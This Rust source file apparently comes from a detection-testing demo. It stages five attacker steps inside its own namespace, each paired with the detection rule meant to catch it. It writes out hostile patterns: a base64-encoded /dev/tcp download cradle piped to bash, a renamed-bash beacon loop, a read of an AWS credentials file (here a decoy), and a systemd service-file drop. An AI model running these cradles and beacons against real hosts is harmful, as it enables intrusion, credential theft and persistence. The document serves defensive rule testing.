//! The attack: five things that attackers do, done for real and harmlessly by processes in the demo's own cgroup and network
//! namespace. Nothing leaves the namespace, nothing outside the run's folder is written, nothing is read but a decoy. Each
//! step says what must be true once it was done, and that is looked at.

use super::stage::{Shell, Stage};
use anyhow::{Context as _, ensure};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// A step of the attack.
pub(crate) struct Move {
    /// The step's name in the report.
    pub(crate) name: &'static str,
    /// The name of the step in which it is noticed.
    pub(crate) noticed: &'static str,
    /// What it is, in a few words.
    pub(crate) about: &'static str,
    /// The title of the rule that is to notice it (content/rules/linux).
    pub(crate) rule: &'static str,
}

/// The steps in their order.
pub(crate) const MOVES: [Move; 5] = [
    Move {
        name: "attack_discovery",
        noticed: "detected_discovery",
        about: "one shell asks for seven things about its host",
        rule: "One process asks for many things about its host",
    },
    Move {
        name: "attack_download",
        noticed: "detected_download",
        about: "an encoded line fetches and runs a second stage from loopback",
        rule: "A decoded text is run by a shell",
    },
    Move {
        name: "attack_credentials",
        noticed: "detected_credentials",
        about: "a decoy of cloud credentials is read",
        rule: "A credential file is named on a command line",
    },
    Move {
        name: "attack_persistence",
        noticed: "detected_persistence",
        about: "a service file is put down in a temporary place",
        rule: "Something that starts by itself was put down",
    },
    Move {
        name: "attack_beacon",
        noticed: "detected_beacon",
        about: "a program in a temporary folder calls out to loopback and stays",
        rule: "A program in a temporary folder connects to somewhere",
    },
];

/// Put down what the attack finds: a home with decoy credentials, and folders to write into.
pub(crate) fn lay_out(stage: &Stage) -> anyhow::Result<()> {
    let host = stage.folder.join("host");
    for folder in ["home/bob/.aws", "etc/systemd/system", "run"] {
        std::fs::create_dir_all(host.join(folder))?;
    }
    let decoy = "[default]\naws_access_key_id = AKIADECOYDECOYDECOY0\naws_secret_access_key = decoy\n";
    std::fs::write(host.join("home/bob/.aws/credentials"), decoy)?;
    // The beacon is a shell under another name: whatever else its host has, it has that.
    std::fs::copy(std::fs::canonicalize("/bin/bash")?, host.join("run/beacon")).context("the beacon")?;
    Ok(())
}

/// What the second stage does when it runs: leave a mark.
pub(crate) fn second_stage(stage: &Stage) -> String {
    format!("echo second-stage > {}/host/run/mark", stage.folder.display())
}

/// The attacker at work.
pub(crate) struct Attack<'a> {
    pub(crate) stage: &'a Stage,
    pub(crate) shell: &'a mut Shell,
    /// The port of the attack's own server on the namespace's loopback.
    pub(crate) port: u16,
}

impl Attack<'_> {
    /// Do a step and look whether it was done; the process that stays, and what was seen.
    pub(crate) fn go(&mut self, name: &str) -> anyhow::Result<(Option<u32>, String)> {
        match name {
            "attack_discovery" => self.discover(),
            "attack_download" => self.download(),
            "attack_credentials" => self.read_credentials(),
            "attack_persistence" => self.persist(),
            _ => self.beacon(),
        }
    }

    fn host(&self) -> String {
        self.stage.folder.join("host").display().to_string()
    }

    fn discover(&mut self) -> anyhow::Result<(Option<u32>, String)> {
        let answer = self.shell.run("bash -c 'id -un; whoami; uname -s; hostname; df -P / ; mount; env' | wc -l")?;
        let lines: u32 = answer.trim().parse().context("the answers are counted")?;
        ensure!(lines >= 7, "the commands answered {lines} lines");
        Ok((None, format!("id, whoami, uname, hostname, df, mount, env answered {lines} lines")))
    }

    fn download(&mut self) -> anyhow::Result<(Option<u32>, String)> {
        let cradle = format!(
            "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'GET /stage HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 | bash",
            self.port
        );
        let line = format!("bash -c \"echo {} | base64 -d | bash\"", STANDARD.encode(cradle));
        self.shell.run(&line)?;
        let mark = std::fs::read_to_string(self.stage.folder.join("host/run/mark")).unwrap_or_default();
        ensure!(mark.trim() == "second-stage", "the second stage did not run");
        Ok((None, "fetched over HTTP, decoded, run: its mark is there".to_owned()))
    }

    fn read_credentials(&mut self) -> anyhow::Result<(Option<u32>, String)> {
        let answer = self.shell.run(&format!("cat {}/home/bob/.aws/credentials | wc -c", self.host()))?;
        let bytes: u32 = answer.trim().parse().context("the decoy is counted")?;
        ensure!(bytes > 0, "the decoy is empty");
        Ok((None, format!("{bytes} bytes of a decoy were read")))
    }

    fn persist(&mut self) -> anyhow::Result<(Option<u32>, String)> {
        let place = format!("{}/etc/systemd/system/update.service", self.host());
        let unit = "[Service]\\nExecStart=/bin/true\\n";
        self.shell.run(&format!("bash -c \"printf '{unit}' > {place}\""))?;
        let written = std::fs::read_to_string(&place).unwrap_or_default();
        ensure!(written.contains("ExecStart"), "the service file is not there");
        Ok((None, "etc/systemd/system/update.service lies in the run's folder, where nothing starts it".to_owned()))
    }

    fn beacon(&mut self) -> anyhow::Result<(Option<u32>, String)> {
        let beat = format!("exec 3<>/dev/tcp/127.0.0.1/{} && while echo beat >&3; do sleep 1; done", self.port);
        let line = format!("{}/run/beacon -c '{beat}' </dev/null >/dev/null 2>&1 & echo $!", self.host());
        let pid: u32 = self.shell.run(&line)?.trim().parse().context("the beacon's number")?;
        Ok((Some(pid), format!("process {pid} runs and calls out")))
    }
}
